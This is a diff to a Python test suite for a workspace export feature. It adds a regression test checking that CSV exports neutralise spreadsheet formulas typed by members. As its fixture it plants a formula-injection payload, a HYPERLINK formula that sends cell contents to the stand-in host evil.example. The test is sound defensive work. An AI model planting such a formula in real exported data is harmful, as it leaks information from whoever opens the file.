@@ -5,6 +5,7 @@ On every backend: the cascades and the explicit deletes differ per database engi
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import re
@@ -96,6 +97,32 @@ def test_export_holds_every_row_of_the_workspace_and_nothing_else(runtime: Runti
     assert [a["username"] for a in tables["local_account"]] == ["admin"]
     member_csv = files.read("csv/member.csv").decode("utf-8-sig")
     assert member_csv.splitlines()[0].startswith("id,") and "张三" in member_csv
+
+
+def test_the_export_csv_quotes_a_formula_a_member_typed_and_the_json_keeps_it(
+    sqlite_runtime: Runtime,
+) -> None:
+    """Tester s26 A-6: any member could plant a live spreadsheet formula in the admin's export
+    (every other CSV of the product quotes such cells: teamassist.csvfile)."""
+    load_demo(sqlite_runtime)
+    demo = ChatDriver(sqlite_runtime)
+    planted = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
+    demo.text(f"/问题反馈 {planted}", as_="zhangsan")
+    demo.text("/改名 @sunqi +孙七", as_="admin")
+    with transaction(sqlite_runtime.factory) as session:
+        workspace = service.get_workspace_by_key(session, key="demo")
+        assert workspace is not None
+        archive = export_workspace(session, workspace=workspace, now=sqlite_runtime.clock())
+    files = zipfile.ZipFile(io.BytesIO(archive.data))
+    items = list(
+        csv.DictReader(io.StringIO(files.read("csv/feedback_item.csv").decode("utf-8-sig")))
+    )
+    assert [row["text"] for row in items if "HYPERLINK" in row["text"]] == ["'" + planted]
+    members = list(csv.DictReader(io.StringIO(files.read("csv/member.csv").decode("utf-8-sig"))))
+    assert [row["display_name"] for row in members if row["handle"] == "sunqi"] == ["'+孙七"]
+    assert all(row["id"].isdigit() for row in members)  # numbers are left as they are
+    tables = json.loads(files.read("workspace.json"))["tables"]
+    assert planted in [item["text"] for item in tables["feedback_item"]]
 
 
 def _remaining(runtime: Runtime, rows: dict[str, list[dict[str, Any]]]) -> dict[str, int]:
